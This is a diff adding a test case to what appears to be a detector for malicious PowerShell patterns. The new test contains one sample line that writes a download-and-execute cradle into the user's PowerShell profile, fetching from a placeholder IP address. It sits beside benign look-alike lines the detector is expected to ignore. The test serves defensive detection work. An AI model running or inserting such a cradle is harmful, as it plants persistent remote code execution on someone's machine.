@@ -120,3 +120,12 @@ def test_encoded_command_through_cmd_and_an_array_argument_list() -> None:
         Start-Process -FilePath pwsh -ArgumentList @('-NoLogo', '-File', 'run.ps1')
     """)
     assert lines_of(result, "PSEncodedCommand") == [1, 2, 3]
+
+
+def test_cradle_in_a_string_after_a_newline_escape() -> None:
+    result = analyze("""
+        Add-Content -Path $PROFILE -Value "`nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/p')"
+        Add-Content -Path $PROFILE -Value "`nImport-Module Posh-Git"
+        $note = "`nIEXPLORE is opened by DownloadString-free code"
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [1]
